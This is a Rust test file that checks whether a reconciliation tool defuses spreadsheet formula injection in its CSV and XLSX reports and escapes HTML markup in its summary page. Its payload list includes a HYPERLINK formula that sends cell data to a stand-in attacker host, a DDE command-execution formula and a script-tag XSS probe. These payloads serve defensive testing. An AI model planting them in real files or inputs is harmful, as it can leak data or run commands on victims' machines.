//! Customer-controlled text that a spreadsheet would run as a formula: it
//! must reach every CSV we write with a leading `'` and every XLSX cell as a
//! string, never a formula; and the HTML must show it, not run it.

use std::io::Read;

use crate::common::{HostileDay, csv_cell, csv_cells};

const EVIL: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Click me\")",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
];

/// A cell Excel or LibreOffice would evaluate.
fn is_live_formula(cell: &str) -> bool {
    let plain_number = {
        let body = cell.strip_prefix(['-', '+']).unwrap_or(cell);
        !body.is_empty() && body.bytes().all(|b| b.is_ascii_digit() || b == b'.')
    };
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && !plain_number
}

fn plant(day: &HostileDay) {
    // Customer names in the order export.
    let text = String::from_utf8(day.read("orders/orders.csv")).unwrap();
    let mut out = Vec::new();
    for (i, line) in text.lines().enumerate() {
        let mut cells: Vec<String> = line.split(',').map(str::to_string).collect();
        // Order 4 is an amount_mismatch, so it is listed in the HTML.
        match i {
            1..=3 => cells[1] = csv_cell(EVIL[i - 1]),
            5 => cells[1] = csv_cell(EVIL[3]),
            4 => cells[1] = "<script>alert(1)</script>".into(),
            _ => {}
        }
        out.push(cells.join(","));
    }
    // A row ingest must reject: its amount cell is a formula, so the
    // quarantine quotes customer input too.
    out.push("ORD-20261121-9998,=1+1 Buyer,=1+1,THB,2026-11-21T10:00:00+07:00,".into());
    day.write("orders/orders.csv", out.join("\n") + "\n");

    // A counterparty name on the statement.
    // (the first money-in line of the canonical ABA file: its fifth column).
    let text = String::from_utf8(day.read("statements/aba-usd.csv")).unwrap();
    let mut out = Vec::new();
    let mut planted = false;
    for line in text.lines() {
        let mut cells: Vec<String> = line.split(',').map(str::to_string).collect();
        if !planted && cells.len() > 4 && cells[2].parse::<f64>().is_ok_and(|a| a > 0.0) {
            cells[4] = csv_cell(EVIL[4]);
            planted = true;
        }
        out.push(cells.join(","));
    }
    assert!(planted, "no money-in line in aba-usd.csv");
    day.write("statements/aba-usd.csv", out.join("\n") + "\n");
}

#[test]
fn formula_cells_are_defused_in_every_csv_report() {
    let day = HostileDay::new();
    plant(&day);
    day.reconcile().assert_finished_with_exceptions();

    let mut checked = 0;
    let mut defused = Vec::new();
    for entry in std::fs::read_dir(day.report_dir()).unwrap() {
        let path = entry.unwrap().path();
        if path.extension().is_none_or(|e| e != "csv") {
            continue;
        }
        for cell in csv_cells(&std::fs::read(&path).unwrap()) {
            assert!(
                !is_live_formula(&cell),
                "{} has a live formula cell {cell:?}",
                path.display()
            );
            if let Some(rest) = cell.strip_prefix('\'') {
                defused.push(rest.to_string());
            }
            checked += 1;
        }
    }
    assert!(checked > 500, "only {checked} cells checked");
    // Each planted text is there, intact behind its quote mark.
    for evil in EVIL {
        assert!(
            defused.iter().any(|d| d.contains(evil)),
            "{evil:?} is not in any report as defused text"
        );
    }
    let quarantine = day.quarantined("orders.csv");
    let row = quarantine
        .iter()
        .find(|r| r["line"] == "58")
        .expect("the formula amount row is quarantined");
    assert_eq!(row["value"], "'=1+1", "{row:?}");
}

#[test]
fn formula_cells_are_strings_in_the_workbook() {
    let day = HostileDay::new();
    plant(&day);
    day.reconcile().assert_finished_with_exceptions();

    let bytes = day.report_bytes("reconciliation.xlsx");
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).expect("a zip");
    let mut sheets = 0;
    let mut strings = String::new();
    for i in 0..zip.len() {
        let mut part = zip.by_index(i).unwrap();
        let name = part.name().map(|n| n.to_string()).unwrap_or_default();
        let mut xml = String::new();
        part.read_to_string(&mut xml).unwrap();
        if name.starts_with("xl/worksheets/") && name.ends_with(".xml") {
            sheets += 1;
            assert!(
                !xml.contains("<f>") && !xml.contains("<f "),
                "{name} has a formula element"
            );
        }
        if name == "xl/sharedStrings.xml" || name.starts_with("xl/worksheets/") {
            strings.push_str(&xml);
        }
    }
    assert!(sheets >= 4, "only {sheets} sheets");
    // The texts are there, as text (XML-escaped).
    for needle in ["=HYPERLINK(", "+SUM(1,2)", "@SUM(A1)", "=cmd|"] {
        assert!(strings.contains(needle), "{needle} not found as a string");
    }
}

#[test]
fn html_shows_markup_as_text() {
    let day = HostileDay::new();
    plant(&day);
    day.reconcile().assert_finished_with_exceptions();
    let html = String::from_utf8(day.report_bytes("summary.html")).unwrap();
    assert!(
        html.contains("alert(1)"),
        "the exception's name is on the page"
    );
    assert!(
        !html.contains("<script>alert(1)"),
        "customer markup reached the page"
    );
}
